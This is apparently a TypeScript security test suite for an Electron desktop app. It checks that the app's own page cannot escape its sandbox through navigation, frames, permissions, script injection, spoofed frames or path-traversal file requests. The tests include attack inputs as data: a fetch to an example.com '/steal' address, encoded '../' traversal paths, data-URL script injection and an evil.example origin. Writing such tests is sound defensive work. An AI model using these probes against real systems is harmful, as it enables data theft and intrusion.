import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HOST_CHANNEL, type HostBridge } from '../../shared/hostContract/bridge';
import { buildApp, type BuiltApp } from '../doubles/electron/buildApp';
import { launchElectronDouble, type ElectronDouble } from '../doubles/electron/launch';
import { findChromium } from '../e2e/findChromium';

const chromiumPath = findChromium();
const LIMIT_MS = 60_000;
const REFUSED = { ok: false, problems: [{ code: 'host.refused', path: '', params: {} }] };

interface Attacked {
  plantwright: HostBridge;
}

describe.skipIf(chromiumPath === null)('the desktop app under attack by its own page', { timeout: LIMIT_MS }, () => {
  let app: BuiltApp;
  let double: ElectronDouble;
  let page: Page;
  let home = '';

  beforeAll(async () => {
    app = await buildApp(['main', 'preload']);
    double = await launchElectronDouble({ appFolder: app.folder, chromiumPath: chromiumPath ?? '' });
    page = await double.page();
    home = page.url();
  }, LIMIT_MS);
  afterAll(async () => {
    await double?.close();
    await app?.remove();
  });

  const stillAtHome = async (): Promise<void> => {
    expect(page.url()).toBe(home);
    expect(await page.evaluate(() => (window as unknown as Attacked).plantwright.call('host.abilities', {}))).toMatchObject({ ok: true });
  };

  it('gives the page one function and nothing of Node or Electron', async () => {
    const seen = await page.evaluate(() => ({
      bridge: Object.keys((window as unknown as Attacked).plantwright),
      frozen: Object.isFrozen((window as unknown as Attacked).plantwright),
      leaked: ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'].filter((name) => name in window),
    }));
    expect(seen).toEqual({ bridge: ['call'], frozen: true, leaked: [] });
  });

  it('does not let the page change the bridge', async () => {
    const after = await page.evaluate(() => {
      const attacked = window as unknown as { plantwright: unknown };
      try {
        attacked.plantwright = null;
      } catch {
        // A strict-mode page is told; either way nothing may change.
      }
      return typeof (attacked.plantwright as HostBridge | null)?.call;
    });
    expect(after).toBe('function');
  });

  it.each(['https://example.com/', 'http://127.0.0.1:9/', 'app://elsewhere/index.html', 'https://app--elsewhere.invalid/'])(
    'does not navigate to %s, by script or by link',
    async (address) => {
      const before = double.detailsOf('navigation-denied').length;
      await page.evaluate((url) => void (location.href = url), address);
      await page.evaluate((url) => {
        const link = document.createElement('a');
        link.href = url;
        document.body.append(link);
        link.click();
      }, address);
      if (!address.startsWith('app:')) await double.waitFor('navigation-denied', before + 1);
      await stillAtHome();
    },
  );

  it('does not load the web into a frame', async () => {
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = 'https://example.com/';
      document.body.append(frame);
    });
    await stillAtHome();
    const addresses = page.frames().map((frame) => frame.url());
    expect(addresses.filter((url) => url.startsWith('https://example.com'))).toEqual([]);
  });

  it('opens no window; an https address goes to the system browser, nothing else goes anywhere', async () => {
    for (const url of ['https://example.com/help', 'http://example.com/', 'app://plantwright/index.html', 'about:blank', 'data:text/html,x']) {
      const asked = double.detailsOf('window-asked').length;
      await page.evaluate((address) => void window.open(address), url);
      expect(await double.waitFor('window-asked', asked + 1)).toMatchObject({ action: 'deny' });
    }
    await page.evaluate(() => {
      const link = Object.assign(document.createElement('a'), { href: 'https://example.com/blank', target: '_blank', rel: 'noopener' });
      document.body.append(link);
      link.click();
    });
    await double.waitFor('open-external', 2);
    expect(double.detailsOf('open-external')).toEqual(['https://example.com/help', 'https://example.com/blank']);
    await expect.poll(() => page.context().pages().length).toBe(1);
    await stillAtHome();
  });

  it('is denied every permission it has no need of', async () => {
    const outcomes = await page.evaluate(async () => {
      const outcome = (asked: Promise<unknown>): Promise<unknown> => asked.then((value) => value, (error: Error) => error.name);
      return {
        position: await new Promise((settle) => navigator.geolocation.getCurrentPosition(() => settle('told'), ({ code }) => settle(code))),
        notifications: await outcome(Notification.requestPermission()),
        midi: await outcome(navigator.requestMIDIAccess()),
        clipboardRead: await outcome(navigator.clipboard.readText()),
        clipboardWrite: await outcome(navigator.clipboard.writeText('a figure')),
      };
    });
    const denied = 'NotAllowedError';
    expect(outcomes).toEqual({ position: 1, notifications: 'denied', midi: denied, clipboardRead: denied, clipboardWrite: undefined });
  });

  it('runs no script that is not a file of the app', async () => {
    const outcome = await page.evaluate(async () => {
      const broken: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => broken.push(violatedDirective));
      const add = (fields: Partial<HTMLScriptElement>): void => document.body.append(Object.assign(document.createElement('script'), fields));
      add({ textContent: 'window.inlineRan = true' });
      add({ src: 'https://example.com/x.js' });
      add({ src: 'data:text/javascript,window.dataRan = true' });
      await fetch('https://example.com/steal?x=1').catch(() => undefined);
      await new Promise((settle) => setTimeout(settle, 100));
      return { broken: broken.length, ran: 'inlineRan' in window || 'dataRan' in window };
    });
    expect(outcome).toEqual({ broken: 4, ran: false });
  });

  it.each(['https://evil.example/', 'app://plantwright.evil.example/', 'file:///index.html', 'about:blank'])('refuses calls from a frame at %s', async (url) => {
    const senderFrame = { url, origin: url, parent: null };
    expect(await double.command('invoke-as', { senderFrame, channel: HOST_CHANNEL, args: ['host.abilities', {}] })).toEqual(REFUSED);
  });

  it('refuses calls from a frame that is gone, and from a frame below the top one even with our address', async () => {
    const invoke = (senderFrame: unknown): Promise<unknown> => double.command('invoke-as', { senderFrame, channel: HOST_CHANNEL, args: ['host.abilities', {}] });
    const own = { url: 'app://plantwright/index.html', origin: 'app://plantwright', parent: null };
    expect(await invoke(own)).toMatchObject({ ok: true });
    expect(await invoke(null)).toEqual(REFUSED);
    expect(await invoke({ ...own, parent: own })).toEqual(REFUSED);
  });

  it('refuses calls that a real frame inside the page sends', async () => {
    await page.evaluate(() => document.body.append(document.createElement('iframe')));
    await expect.poll(() => page.frames().length).toBeGreaterThan(1);
    expect(await double.command('invoke-below-top', { channel: HOST_CHANNEL, args: ['host.abilities', {}] })).toEqual(REFUSED);
  });

  it('serves the files of the page and no others under its scheme', async () => {
    const statuses = await page.evaluate(async () => {
      const paths = ['/index.html', '/../package.json', '/..%2f..%2fpackage.json', '/%2e%2e/main/main.js', '/main.js', '/constructor'];
      return Promise.all(paths.map(async (path) => (await fetch(path)).status));
    });
    expect(statuses).toEqual([200, 404, 404, 404, 404, 404]);
    expect(await page.evaluate(async () => (await fetch('/index.html', { method: 'POST' })).status)).toBe(404);
  });

  it('knows no other channel', async () => {
    const own = { url: 'app://plantwright/index.html', origin: 'app://plantwright', parent: null };
    await expect(double.command('invoke-as', { senderFrame: own, channel: 'anything', args: [] })).rejects.toThrow('No handler registered');
  });
});
